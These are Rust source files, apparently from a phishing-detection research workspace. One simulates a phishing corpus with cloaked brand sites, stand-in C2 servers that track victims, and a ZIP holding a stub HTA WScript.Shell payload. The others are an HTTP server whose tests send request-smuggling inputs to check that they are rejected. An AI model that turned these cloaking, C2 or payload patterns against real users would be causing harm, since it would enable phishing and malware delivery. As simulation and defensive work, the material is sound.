            world.issue_certificate_at(&c.domain.name, c.domain.cert_issued_at);

            let site = PhishingSite::new(c.brand, &c.c2_base, c.cloak.clone());
            world.host(&c.domain.name, site.clone());
            // Shodan-style banner: commodity kit hosting stacks.
            let banners = ["nginx/1.24.0", "Apache/2.4.58 (Ubuntu)", "cloudflare", "LiteSpeed"];
            world.set_banner(&c.domain.name, banners[ci % banners.len()]);
            sites.push(site);

            // Background DNS traffic: 30 days of activity before the
            // campaign anchor, volume by message count (§V-A medians).
            let (background, burst): (u64, u64) = if c.message_count == 1 {
                (msg_rng.gen_range(1..=2), msg_rng.gen_range(12..=25))
            } else {
                (msg_rng.gen_range(2..=3), msg_rng.gen_range(40..=60))
            };
            for day in 0..30 {
                world.record_dns_traffic(
                    &c.domain.name,
                    campaign_anchor - SimDuration::days(day),
                    background,
                );
            }
            world.record_dns_traffic(
                &c.domain.name,
                campaign_anchor - SimDuration::days(3),
                burst,
            );
        }
        // The three headline DNS-volume domains (§V-A): the most-reported
        // campaign carries enormous traffic; a 5-message campaign comes
        // second; a single-message domain holds the third slot.
        {
            let max_ci = (0..campaigns.len())
                .max_by_key(|&i| campaigns[i].message_count)
                .expect("campaigns nonempty");
            let anchor_of = |ci: usize| {
                let (y, mo) = timeline::months_2024()[campaign_month[ci]];
                SimTime::from_ymd(y, mo, 15)
            };
            let spread = |total: u64, ci: usize, world: &Internet| {
                let per_day = total / 30;
                for day in 0..30 {
                    world.record_dns_traffic(
                        &campaigns[ci].domain.name,
                        anchor_of(ci) - SimDuration::days(day),
                        per_day,
                    );
                }
            };
            spread(665_126_135, max_ci, &world);
            if let Some(five_ci) = (0..campaigns.len())
                .find(|&i| i != max_ci && campaigns[i].message_count == 5)
            {
                spread(37_623_107, five_ci, &world);
            }
            if let Some(single_ci) =
                (0..campaigns.len()).find(|&i| campaigns[i].message_count == 1)
            {
                spread(15_362, single_ci, &world);
            }
        }

        // --- non-active infrastructure --------------------------------------
        // Error-page targets: half NXDOMAIN (never registered), half
        // registered but taken down (404).
        let error_total = error_count;
        let mut error_urls = Vec::with_capacity(error_total);
        for i in 0..error_total {
            match i % 5 {
                0 | 1 => {
                    // never registered: NXDOMAIN
                    error_urls.push(format!("https://gone-{i}.example/{}", i * 7 + 11));
                }
                2 | 3 => {
                    // registered, resolvable, but no site hosted -> 404
                    let d = format!("expired-{i}.example");
                    world.register_domain_at(
                        &d,
                        "NameBay",
                        timeline::study_start() - SimDuration::days(40),
                    );
                    error_urls.push(format!("https://{d}/landing"));
                }
                _ => {
                    // live but mobile-UA-filtered: the desktop crawler sees a
                    // benign page — the paper's hypothesis for part of its
                    // error class ("server-side filtering mechanisms, such
                    // as … User-Agent filtering").
                    let d = format!("mobile-only-{i}.example");
                    world.register_domain_at(
                        &d,
                        "REGRU-RU",
                        timeline::study_start() - SimDuration::days(25),
                    );
                    let cloak = cb_phishkit::CloakConfig {
                        server: cb_phishkit::ServerCloak {
                            mobile_ua_only: true,
                            ..Default::default()
                        },
                        client: Default::default(),
                        counter: cb_phishkit::CounterCloak::default(),
                    };
                    world.host(
                        &d,
                        PhishingSite::new(Brand::Microsoft, "https://c2-shared.example", cloak),
                    );
                    error_urls.push(format!("https://{d}/doc"));
                }
            }
        }
        // Interaction-required targets: document-share / CAPTCHA pages.
        let interaction_total = interaction_count;
        let interaction_domains = (interaction_total / 6).max(1);
        let mut interaction_urls = Vec::with_capacity(interaction_total);
        for i in 0..interaction_domains {
            let d = format!("doc-share-{i}.example");
            world.register_domain_at(&d, "NameBay", timeline::study_start() - SimDuration::days(20));
            world.host(&d, |_req: &HttpRequest, _ctx: &NetContext<'_>| {
                HttpResponse::html(
                    r#"<html><body><h2>Shared document</h2>
<div data-requires-interaction="captcha">Complete the puzzle to continue</div>
</body></html>"#,
                )
            });
        }
        for i in 0..interaction_total {
            interaction_urls.push(format!(
                "https://doc-share-{}.example/d/{}",
                i % interaction_domains,
                i
            ));
        }
        // Download targets: ZIP served over HTTP (→ HTA inside).
        let download_total = download_count;
        if download_total > 0 {
            world.register_domain_at(
                "file-drop.example",
                "REGRU-RU",
                timeline::study_start() - SimDuration::days(10),
            );
            world.host("file-drop.example", |_req: &HttpRequest, _ctx: &NetContext<'_>| {
                let mut zip = cb_artifacts::ZipArchive::new();
                zip.add(
                    "invoice.hta",
                    b"<html><hta:application/><script>new ActiveXObject('WScript.Shell');</script></html>",
                );
                HttpResponse::ok("application/zip", zip.to_bytes())
            });
        }

        // --- plan message slots ---------------------------------------------
        // Carrier quotas over the active messages.
        let qr_quota = spec.scaled(spec.qr_messages);
        let quotas = CarrierQuotas {
            qr: qr_quota,
            faulty: spec.scaled(spec.faulty_qr_messages).min(qr_quota),
            image: spec.scaled(spec.image_url_messages),
            pdf: spec.scaled(spec.pdf_messages),
            eml: spec.scaled(spec.eml_messages),
            html: spec.scaled(spec.html_attachment_messages),
            noise: spec.scaled(spec.noise_padded_messages),
        };

        // Per-campaign message emission order: campaigns grouped by month.
        let mut campaigns_by_month: Vec<Vec<usize>> = vec![Vec::new(); 10];
        for (ci, &m) in campaign_month.iter().enumerate() {
            campaigns_by_month[m].push(ci);
        }

        // The slot plan is the eager loop's pre-shuffle state: one entry per
        // message, in deterministic construction order. Everything that
        // depends on the RNG (the per-month shuffle, delivery instants, the
        // MIME bodies) is deferred to the stream so the draws happen in
        // exactly the order the eager generator made them.
        let mut months = Vec::with_capacity(10);
        let mut remaining = 0usize;
        for m in 0..10 {
            let (year, month) = timeline::months_2024()[m];
            let mut slots: Vec<Slot> = Vec::new();
            for &ci in &campaigns_by_month[m] {
                let c = &campaigns[ci];
                for k in 0..c.message_count {
                    slots.push(Slot {
                        class: MessageClass::ActivePhish,
                        campaign: Some(ci),
                        url_base: Some(c.url_for_message(k).to_string()),
                        spear: c.spear,
                        victim_db_check: c.cloak.client.victim_db_check,
                        otp_gate: c.cloak.client.otp_gate,
                        victim_check: c.victim_check,
                    });
                }
            }
            for (class, count) in [
                (MessageClass::NoResource, per_month_noresource[m]),
                (MessageClass::ErrorPage, per_month_error[m]),
                (MessageClass::InteractionRequired, per_month_interaction[m]),
                (MessageClass::Download, per_month_download[m]),
            ] {
                for _ in 0..count {
                    slots.push(Slot::bare(class));
                }
            }
            remaining += slots.len();
            months.push(MonthPlan { year, month, slots });
        }

        // The world's clock advances to the end of the window: analysis is
        // retrospective. Message synthesis never reads the clock, so
        // advancing before the stream is drained is observationally
        // identical to advancing after eager generation.
        world.advance_to_end();

        // Transient-fault injection, when the spec asks for it. The plan
        // seed is a label hash — it consumes nothing from the generation
        // RNG stream, so faulted and fault-free corpora from the same seed
        // are otherwise identical.
        if spec.transient_fault_rate > 0.0 {
            world.set_fault_plan(cb_netsim::FaultPlan::new(
                fork.seed("fault-plan"),
                cb_netsim::FaultProfile {
                    rate: spec.transient_fault_rate,
                    max_consecutive: spec.fault_max_consecutive.max(1),
                    ..Default::default()
                },
            ));
        }

        let stream = MessageStream {
            months: months.into_iter(),
            current: None,
            msg_rng,
            error_urls,
            interaction_urls,
            quotas,
            c2_alpha: c2_alpha.clone(),
            c2_beta: c2_beta.clone(),
            id: 0,
            victim_no: 0,
            active_emitted: 0,
            noise_emitted: 0,
            remaining,
        };

        let corpus = Corpus {
            spec: spec.clone(),
            world,
            campaigns,
            sites,
            legit_sites,
            messages: Vec::new(),
            c2_alpha,
            c2_beta,
            c2_shared,
        };
        (corpus, stream)
    }
}

/// Running carrier quotas over the active messages (§IV shapes).
#[derive(Debug, Clone, Copy)]
struct CarrierQuotas {
    qr: usize,
    faulty: usize,
    image: usize,
    pdf: usize,
    eml: usize,
    html: usize,
    noise: usize,
}

/// One planned message: everything knowable before the RNG-dependent parts
/// (shuffle position, delivery instant, MIME body) are drawn.
#[derive(Debug, Clone)]
struct Slot {
    class: MessageClass,
    campaign: Option<usize>,
    /// The campaign landing URL for active slots (victim token appended at
    /// emission time when the kit runs a victim-DB check).
    url_base: Option<String>,
    spear: bool,
    victim_db_check: bool,
    otp_gate: bool,
    victim_check: Option<VictimCheckScript>,
}

impl Slot {
    fn bare(class: MessageClass) -> Slot {
        Slot {
            class,
            campaign: None,
            url_base: None,
            spear: false,
            victim_db_check: false,
            otp_gate: false,
            victim_check: None,
        }
    }
}

/// One month's planned slots, pre-shuffle.
#[derive(Debug)]
struct MonthPlan {
    year: i64,
    month: u32,
    slots: Vec<Slot>,
}

/// In-flight state for the month currently being emitted.
#[derive(Debug)]
struct CurrentMonth {
    year: i64,
    month: u32,
    slots: std::vec::IntoIter<Slot>,
}

/// Lazy message generator returned by [`Corpus::stream`].
///
/// Yields the corpus's [`ReportedMessage`]s one at a time, in delivery
/// order, consuming the `"messages"` RNG stream with exactly the same
/// sequence of draws as the eager generator: each month's slots are
/// shuffled when the month is entered, then each slot draws its delivery
/// instant and builds its MIME body. The stream is `Send`, so a producer
/// thread can feed a bounded scan pipeline while the consumer holds only a
/// fixed window of messages in memory.
pub struct MessageStream {
    months: std::vec::IntoIter<MonthPlan>,
    current: Option<CurrentMonth>,
    msg_rng: StdRng,
    error_urls: Vec<String>,
    interaction_urls: Vec<String>,
    quotas: CarrierQuotas,
    c2_alpha: C2Server,
    c2_beta: C2Server,
    id: usize,
    victim_no: usize,
    active_emitted: usize,
    noise_emitted: usize,
    remaining: usize,
}

impl std::fmt::Debug for MessageStream {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("MessageStream")
            .field("emitted", &self.id)
            .field("remaining", &self.remaining)
            .finish()
    }
}

impl MessageStream {
    /// Synthesize the message for one slot, replicating the eager loop body.
    fn emit(&mut self, slot: Slot, year: i64, month: u32) -> ReportedMessage {
        let Slot {
            class,
            campaign,
            url_base,
            spear: slot_spear,
            victim_db_check,
            otp_gate,
            victim_check,
        } = slot;

        let delivered = timeline::delivery_instant(&mut self.msg_rng, year, month);
        let victim = format!("victim-{}@corp.example", self.victim_no);
        self.victim_no += 1;
        let id = self.id;
        let q = self.quotas;

        let (carrier, url, spear, noise) = match class {
            MessageClass::NoResource => (Carrier::None, None, false, false),
            MessageClass::ErrorPage => {
                let u = self.error_urls[id % self.error_urls.len().max(1)].clone();
                (Carrier::BodyLink, Some(u), false, false)
            }
            MessageClass::InteractionRequired => {
                let u = self.interaction_urls[id % self.interaction_urls.len().max(1)].clone();
                (Carrier::BodyLink, Some(u), false, false)
            }
            MessageClass::Download => (
                Carrier::BodyLink,
                Some(format!("https://file-drop.example/archive-{id}.zip")),
                false,
                false,
            ),
            MessageClass::ActivePhish => {
                let mut url = url_base.expect("active slot has url");
                if victim_db_check {
                    url.push_str(&format!("?victim={victim}"));
                }
                // carrier by running quota
                let carrier = if self.active_emitted < q.qr {
                    Carrier::QrCode {
                        faulty: self.active_emitted < q.faulty,
                    }
                } else if self.active_emitted < q.qr + q.image {
                    Carrier::ImageText
                } else if self.active_emitted < q.qr + q.image + q.pdf {
                    if self.active_emitted.is_multiple_of(3) {
                        Carrier::PdfText
                    } else {
                        Carrier::PdfLink
                    }
                } else if self.active_emitted < q.qr + q.image + q.pdf + q.eml {
                    Carrier::NestedEml
                } else if !slot_spear
                    && self.active_emitted < q.qr + q.image + q.pdf + q.eml + q.html
                {
                    Carrier::HtmlAttachment
                } else {
                    Carrier::BodyLink
                };
                self.active_emitted += 1;
                let noise = matches!(carrier, Carrier::BodyLink)
                    && self.noise_emitted < q.noise
                    && {
                        self.noise_emitted += 1;
                        true
                    };
                (carrier, Some(url), slot_spear, noise)
            }
        };

        // Victim-check campaigns know their targets. Registration happens
        // before the message is yielded, so a streaming scanner always sees
        // the same C2 state for message *i* as a batch scanner would.
        match victim_check {
            Some(VictimCheckScript::A) => {
                self.c2_alpha.add_victim(&victim);
            }
            Some(VictimCheckScript::B) => {
                self.c2_beta.add_victim(&victim);
            }
            None => {}
        }

        let otp = otp_gate.then_some(cb_phishkit::site::DEFAULT_OTP_CODE);
        let raw = build_message(
            &mut self.msg_rng,
            carrier,
            url.as_deref(),
            &victim,
            delivered,
            noise,
            otp,
            id as u64,
        );
        self.id += 1;
        self.remaining -= 1;
        ReportedMessage {
            id,
            raw,
            delivered_at: delivered,
            victim,
            truth: GroundTruth {
                class,
                campaign,
                carrier,
                spear,
                noise_padded: noise,
                url,
            },
        }
    }
}

impl Iterator for MessageStream {
    type Item = ReportedMessage;

    fn next(&mut self) -> Option<ReportedMessage> {
        loop {
            if self.current.is_none() {
                let plan = self.months.next()?;
                let mut slots = plan.slots;
                // The eager generator shuffled each month's slots just
                // before emitting them; drawing here keeps the RNG call
                // sequence identical.
                slots.shuffle(&mut self.msg_rng);
                self.current = Some(CurrentMonth {
                    year: plan.year,
                    month: plan.month,
                    slots: slots.into_iter(),
                });
            }
            let cur = self.current.as_mut().expect("just installed");
            let (year, month) = (cur.year, cur.month);
            match cur.slots.next() {
                Some(slot) => return Some(self.emit(slot, year, month)),
                None => {
                    self.current = None;
                }
            }
        }
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        (self.remaining, Some(self.remaining))
    }
}

impl ExactSizeIterator for MessageStream {}

/// Extension to advance the world's clock past the study window.
trait AdvanceToEnd {
    fn advance_to_end(&self);
}

impl AdvanceToEnd for Internet {
    fn advance_to_end(&self) {
        self.clock().advance_to(timeline::study_end());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_corpus() -> Corpus {
        Corpus::generate(&CorpusSpec::paper().with_scale(0.04), 42)
    }

    #[test]
    fn totals_and_class_mix() {
        let c = small_corpus();
        let spec = &c.spec;
        let expected: usize = timeline::scaled_monthly(spec).iter().sum();
        assert_eq!(c.messages.len(), expected);
        let actives = c
            .messages
            .iter()
            .filter(|m| m.truth.class == MessageClass::ActivePhish)
            .count();
        let campaign_total: usize = c.campaigns.iter().map(|x| x.message_count).sum();
        assert_eq!(actives, campaign_total);
    }

    #[test]
    fn messages_parse_and_carry_auth_results() {
        let c = small_corpus();
        for m in c.messages.iter().take(30) {
            let parsed = cb_email::MimeEntity::parse(&m.raw).unwrap();
            assert!(parsed
                .header("Authentication-Results")
                .unwrap()
                .contains("dmarc=pass"));
        }
    }

    #[test]
    fn campaign_domains_are_live_with_whois_and_certs() {
        let c = small_corpus();
        for camp in &c.campaigns {
            let whois = c.world.whois(&camp.domain.name).expect("registered");
            assert_eq!(whois.registered_at, camp.domain.registered_at);
            let cert = c.world.first_certificate(&camp.domain.name).expect("cert");
            assert_eq!(cert.issued_at, camp.domain.cert_issued_at);
        }
    }

    #[test]
    fn active_message_urls_point_at_live_campaign_sites() {
        let c = small_corpus();
        let sample = c
            .messages
            .iter()
            .find(|m| {
                m.truth.class == MessageClass::ActivePhish
                    && m.truth.carrier == Carrier::BodyLink
            })
            .expect("an active body-link message");
        let url = sample.truth.url.as_ref().unwrap();
        let ci = sample.truth.campaign.unwrap();
        assert!(url.contains(&c.campaigns[ci].domain.name));
    }

    #[test]
    fn error_class_urls_are_dead() {
        let c = small_corpus();
        let err = c
            .messages
            .iter()
            .find(|m| m.truth.class == MessageClass::ErrorPage)
            .unwrap();
        let resp = c
            .world
            .request(cb_netsim::HttpRequest::get(err.truth.url.as_ref().unwrap()));
        assert!(resp.status == 0 || resp.status == 404, "status {}", resp.status);
    }

    #[test]
    fn download_class_serves_zip() {
        let c = small_corpus();
        if let Some(dl) = c
            .messages
            .iter()
            .find(|m| m.truth.class == MessageClass::Download)
        {
            let resp = c
                .world
                .request(cb_netsim::HttpRequest::get(dl.truth.url.as_ref().unwrap()));
            assert_eq!(resp.header("Content-Type"), Some("application/zip"));
            assert_eq!(
                cb_artifacts::magic::sniff(&resp.body),
                cb_artifacts::magic::FileKind::Zip
            );
        }
    }

    #[test]
    fn delivery_months_follow_figure_2_shape() {
        let c = small_corpus();
        let mut per_month = [0usize; 10];
        for m in &c.messages {
            let (_, month) = m.delivered_at.year_month();
            per_month[(month - 1) as usize] += 1;
        }
        let scaled = timeline::scaled_monthly(&c.spec);
        assert_eq!(per_month, scaled);
    }

    #[test]
    fn stream_is_bit_identical_to_generate_and_lazy() {
        let spec = CorpusSpec::paper().with_scale(0.02);
        let eager = Corpus::generate(&spec, 7);
        let (lazy, stream) = Corpus::stream(&spec, 7);
        assert!(lazy.messages.is_empty(), "stream leaves messages unmaterialized");
        assert_eq!(stream.len(), eager.messages.len());
        let mut emitted = 0usize;
        for (n, msg) in stream.enumerate() {
            let e = &eager.messages[n];
            assert_eq!(msg.id, e.id);
            assert_eq!(msg.raw, e.raw);
            assert_eq!(msg.delivered_at, e.delivered_at);
            assert_eq!(msg.victim, e.victim);
            assert_eq!(msg.truth, e.truth);
            emitted = n + 1;
        }
        assert_eq!(emitted, eager.messages.len());

        // The exact-size hint tracks consumption one message at a time.
        let (_, mut partial) = Corpus::stream(&spec, 7);
        let total = partial.len();
        let first = partial.next().expect("nonempty corpus");
        assert_eq!(first.id, 0);
        assert_eq!(partial.len(), total - 1);
    }

    #[test]
    fn stream_registers_victims_before_yield() {
        let spec = CorpusSpec::paper().with_scale(0.2);
        let (lazy, stream) = Corpus::stream(&spec, 13);
        for msg in stream {
            if let Some(ci) = msg.truth.campaign {
                if lazy.campaigns[ci].victim_check == Some(VictimCheckScript::A) {
                    // The C2 must already answer "yes" for this victim even
                    // though later messages are not generated yet.
                    let resp = lazy.world.request(cb_netsim::HttpRequest::post(
                        "https://c2-alpha.example/check-victim",
                        msg.victim.as_bytes(),
                    ));
                    assert_eq!(resp.body_text(), "yes");
                }
            }
        }
    }

    #[test]
    fn generation_is_deterministic() {
        let a = Corpus::generate(&CorpusSpec::paper().with_scale(0.02), 7);
        let b = Corpus::generate(&CorpusSpec::paper().with_scale(0.02), 7);
        assert_eq!(a.messages.len(), b.messages.len());
        for (x, y) in a.messages.iter().zip(&b.messages) {
            assert_eq!(x.raw, y.raw);
            assert_eq!(x.delivered_at, y.delivered_at);
        }
    }

    #[test]
    fn victim_check_c2s_know_their_targets() {
        let c = Corpus::generate(&CorpusSpec::paper().with_scale(0.2), 13);
        let a_victims: Vec<&ReportedMessage> = c
            .messages
            .iter()
            .filter(|m| {
                m.truth
                    .campaign
                    .map(|ci| c.campaigns[ci].victim_check == Some(VictimCheckScript::A))
                    .unwrap_or(false)
            })
            .collect();
        if let Some(m) = a_victims.first() {
            let resp = c.world.request(cb_netsim::HttpRequest::post(
                "https://c2-alpha.example/check-victim",
                m.victim.as_bytes(),
            ));
            assert_eq!(resp.body_text(), "yes");
        }
    }

    #[test]
    fn dns_volumes_separate_single_from_multi() {
        let c = Corpus::generate(&CorpusSpec::paper().with_scale(0.3), 21);
        let mut singles = Vec::new();
        let mut multis = Vec::new();
        for camp in &c.campaigns {
            let v = c
                .world
                .dns_volume(&camp.domain.name, camp.launch, SimDuration::days(31))
                .total;
            if camp.message_count == 1 {
                singles.push(v);
            } else {
                multis.push(v);
            }
        }
        let med = |v: &mut Vec<u64>| {
            v.sort_unstable();
            v[v.len() / 2]
        };
        if !singles.is_empty() && !multis.is_empty() {
            assert!(
                med(&mut singles) < med(&mut multis),
                "single-message campaigns must show lower DNS volume"
            );
        }
    }
}
