#![warn(missing_docs)]

//! # cb-httpd
//!
//! A pure-`std` HTTP/1.1 server for the `crawlboxd` daemon (DESIGN.md
//! §15): its own request parser and response serializer — no external
//! dependencies, like everything else in the workspace — plus a
//! thread-per-connection server loop with keep-alive, pipelining, read
//! timeouts and graceful shutdown.
//!
//! The wire surface is deliberately small and strict:
//!
//! * [`parse_request`] parses incrementally from a connection buffer and
//!   classifies every malformed input as a 4xx/501/505 [`ParseError`] —
//!   never a panic (property-tested over arbitrary bytes; there is no
//!   `catch_unwind` in the request path).
//! * Request-smuggling shapes (`Content-Length` + `Transfer-Encoding`,
//!   repeated/list/non-digit lengths, folded headers, non-chunked
//!   transfer codings) are rejected outright.
//! * [`serve`] drives a [`Handler`] over a `TcpListener`; slowloris
//!   requests time out with 408, oversized starts/heads/bodies answer
//!   414/431/413, and shutdown drains in-flight connections.
//!
//! ```no_run
//! use cb_httpd::{serve, Response, ServerConfig};
//! use std::net::TcpListener;
//! use std::sync::Arc;
//!
//! let listener = TcpListener::bind("127.0.0.1:0").unwrap();
//! let server = serve(
//!     listener,
//!     ServerConfig::default(),
//!     Arc::new(|req| Response::text(200, format!("hello {}", req.path()))),
//! )
//! .unwrap();
//! println!("listening on {}", server.addr());
//! ```

pub mod request;
pub mod response;
pub mod server;

pub use request::{parse_request, Limits, ParseError, Request};
pub use response::Response;
pub use server::{serve, Handler, ServerConfig, ServerHandle};
