//! The connection loop: a thread-per-connection HTTP/1.1 server over a
//! `TcpListener`, with keep-alive, pipelining, read timeouts (slowloris
//! defence) and graceful shutdown.
//!
//! Every connection reads into a single growable buffer and repeatedly
//! offers it to [`parse_request`]: complete requests are drained from the
//! front and dispatched, so pipelined requests on one socket are served
//! back-to-back in order. Malformed input answers with the parse error's
//! status and closes; a read timeout with a partial request answers 408.

use crate::request::{parse_request, Limits, ParseError, Request};
use crate::response::Response;
use std::io::Read;
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

/// The request handler: pure function from request to response, shared
/// across connection threads.
pub type Handler = Arc<dyn Fn(&Request) -> Response + Send + Sync + 'static>;

/// Server tuning knobs.
#[derive(Debug, Clone)]
pub struct ServerConfig {
    /// Parser limits applied per request.
    pub limits: Limits,
    /// Socket read timeout: a connection idle this long mid-request is
    /// answered 408 and closed (slowloris defence). Between requests it
    /// simply closes.
    pub read_timeout: Duration,
    /// Requests served per connection before forcing close.
    pub max_requests_per_conn: usize,
}

impl Default for ServerConfig {
    fn default() -> ServerConfig {
        ServerConfig {
            limits: Limits::default(),
            read_timeout: Duration::from_secs(5),
            max_requests_per_conn: 10_000,
        }
    }
}

/// A running server; dropping (or calling [`shutdown`](Self::shutdown))
/// stops the accept loop and waits for in-flight connections.
pub struct ServerHandle {
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    active: Arc<AtomicUsize>,
    accept: Option<thread::JoinHandle<()>>,
}

impl ServerHandle {
    /// The bound address (resolves port 0 to the real port).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Stop accepting, then wait (bounded) for in-flight connections.
    pub fn shutdown(mut self) {
        self.stop_and_join();
    }

    fn stop_and_join(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Unblock the accept loop with a no-op connection.
        let _ = TcpStream::connect(self.addr);
        if let Some(handle) = self.accept.take() {
            let _ = handle.join();
        }
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while self.active.load(Ordering::SeqCst) > 0 && std::time::Instant::now() < deadline {
            thread::sleep(Duration::from_millis(5));
        }
    }
}

impl Drop for ServerHandle {
    fn drop(&mut self) {
        if self.accept.is_some() {
            self.stop_and_join();
        }
    }
}

/// Decrements the active-connection count even if the handler panics the
/// thread (it should not — the request path is panic-free by contract).
struct ActiveGuard(Arc<AtomicUsize>);

impl Drop for ActiveGuard {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::SeqCst);
    }
}

/// Start serving `listener` with `handler` on background threads.
///
/// # Errors
///
/// Propagates `local_addr` failure on the listener.
pub fn serve(
    listener: TcpListener,
    config: ServerConfig,
    handler: Handler,
) -> std::io::Result<ServerHandle> {
    let addr = listener.local_addr()?;
    let stop = Arc::new(AtomicBool::new(false));
    let active = Arc::new(AtomicUsize::new(0));
    let accept = {
        let stop = Arc::clone(&stop);
        let active = Arc::clone(&active);
        thread::Builder::new().name("httpd-accept".into()).spawn(move || {
            for stream in listener.incoming() {
                if stop.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(stream) = stream else { continue };
                active.fetch_add(1, Ordering::SeqCst);
                let guard = ActiveGuard(Arc::clone(&active));
                let config = config.clone();
                let handler = Arc::clone(&handler);
                // On spawn failure the closure (and the guard in it) is
                // dropped, releasing the connection count.
                let _ = thread::Builder::new().name("httpd-conn".into()).spawn(move || {
                    let _guard = guard;
                    serve_connection(stream, &config, &handler);
                });
            }
        })?
    };
    Ok(ServerHandle { addr, stop, active, accept: Some(accept) })
}

/// Serve one connection until close, error, timeout or request cap.
fn serve_connection(mut stream: TcpStream, config: &ServerConfig, handler: &Handler) {
    let _ = stream.set_nodelay(true);
    let _ = stream.set_read_timeout(Some(config.read_timeout));
    // Absolute backstop on buffered bytes: head limit + body limit + one
    // pipelined head. Beyond this something is wrong regardless of framing.
    let buf_cap = config.limits.max_head_bytes + config.limits.max_body + 64 * 1024;
    let mut buf: Vec<u8> = Vec::new();
    let mut served = 0usize;
    let mut chunk = [0u8; 16 * 1024];
    loop {
        // Drain every complete pipelined request already buffered.
        loop {
            match parse_request(&buf, &config.limits) {
                Ok(Some((request, consumed))) => {
                    buf.drain(..consumed);
                    served += 1;
                    let keep_alive =
                        request.keep_alive() && served < config.max_requests_per_conn;
                    let response = handler(&request);
                    if response.write_to(keep_alive, &mut stream).is_err() || !keep_alive {
                        let _ = stream.shutdown(Shutdown::Both);
                        return;
                    }
                }
                Ok(None) => break,
                Err(e) => {
                    respond_parse_error(&mut stream, &e);
                    return;
                }
            }
        }
        if buf.len() > buf_cap {
            respond_parse_error(&mut stream, &ParseError::PayloadTooLarge);
            return;
        }
        match stream.read(&mut chunk) {
            Ok(0) => return, // peer closed; a torn partial request is dropped
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                if !buf.is_empty() {
                    // Slowloris: a partial request stalled past the timeout.
                    let _ = Response::json(408, "{\"error\":\"request timeout\"}")
                        .write_to(false, &mut stream);
                }
                let _ = stream.shutdown(Shutdown::Both);
                return;
            }
            Err(_) => return,
        }
    }
}

fn respond_parse_error(stream: &mut TcpStream, e: &ParseError) {
    let body = format!("{{\"error\":{:?}}}", e.reason());
    let _ = Response::json(e.status().into(), body).write_to(false, stream);
    let _ = stream.shutdown(Shutdown::Both);
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn start(handler: Handler) -> ServerHandle {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let config = ServerConfig {
            read_timeout: Duration::from_millis(200),
            ..ServerConfig::default()
        };
        serve(listener, config, handler).unwrap()
    }

    fn echo_handler() -> Handler {
        Arc::new(|req: &Request| {
            Response::text(200, format!("{} {}", req.method, req.path()))
        })
    }

    fn read_all(stream: &mut TcpStream) -> String {
        let mut out = Vec::new();
        let _ = stream.read_to_end(&mut out);
        String::from_utf8_lossy(&out).into_owned()
    }

    #[test]
    fn serves_keep_alive_and_pipelined_requests() {
        let server = start(echo_handler());
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream
            .write_all(b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\nConnection: close\r\n\r\n")
            .unwrap();
        let text = read_all(&mut stream);
        let responses = text.matches("HTTP/1.1 200 OK").count();
        assert_eq!(responses, 2, "{text}");
        assert!(text.contains("GET /a"));
        assert!(text.contains("GET /b"));
        server.shutdown();
    }

    #[test]
    fn malformed_requests_get_4xx_and_close() {
        let server = start(echo_handler());
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream
            .write_all(b"POST / HTTP/1.1\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n")
            .unwrap();
        let text = read_all(&mut stream);
        assert!(text.starts_with("HTTP/1.1 400"), "{text}");

        // The server survives and keeps serving fresh connections.
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream.write_all(b"GET /ok HTTP/1.1\r\nConnection: close\r\n\r\n").unwrap();
        assert!(read_all(&mut stream).contains("200 OK"));
        server.shutdown();
    }

    #[test]
    fn stalled_partial_request_gets_408() {
        let server = start(echo_handler());
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream.write_all(b"GET /slow HTTP/1.1\r\nHo").unwrap();
        // Stop sending: the read timeout must answer 408 and close.
        let text = read_all(&mut stream);
        assert!(text.starts_with("HTTP/1.1 408"), "{text}");
        server.shutdown();
    }

    #[test]
    fn shutdown_waits_for_in_flight_connections() {
        let server = start(Arc::new(|_req: &Request| {
            thread::sleep(Duration::from_millis(50));
            Response::text(200, "done")
        }));
        let addr = server.addr();
        let client = thread::spawn(move || {
            let mut stream = TcpStream::connect(addr).unwrap();
            stream.write_all(b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n").unwrap();
            read_all(&mut stream)
        });
        thread::sleep(Duration::from_millis(10));
        server.shutdown();
        assert!(client.join().unwrap().contains("done"));
    }
}
