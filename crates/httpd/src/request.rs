//! Incremental HTTP/1.1 request parsing over a byte buffer.
//!
//! [`parse_request`] consumes from the front of a connection buffer: it
//! returns `Ok(None)` while the request is still incomplete, and
//! `Ok(Some((request, consumed)))` once a full head + body is available —
//! so a pipelined connection simply drains `consumed` bytes and parses
//! again. Every malformed input maps to a [`ParseError`] carrying the 4xx
//! (or 501/505) status the connection should answer with; the parser
//! itself never panics on any byte sequence (the proptest suite in
//! `tests/` feeds it arbitrary bytes), so there is no `catch_unwind`
//! anywhere in the request path.
//!
//! Deliberately strict where request smuggling lives (RFC 9112 §11.2):
//!
//! * `Content-Length` together with `Transfer-Encoding` is rejected.
//! * Repeated or list-valued `Content-Length` headers are rejected, as are
//!   non-digit lengths (`+5`, `0x5`, `5,5`).
//! * `Transfer-Encoding` values other than exactly `chunked` are refused
//!   with 501 rather than falling back to "read until close".
//! * Obsolete header line folding is rejected rather than unfolded.

/// Hard limits applied while parsing; all byte counts are per request.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Longest accepted request line (method + target + version).
    pub max_start_line: usize,
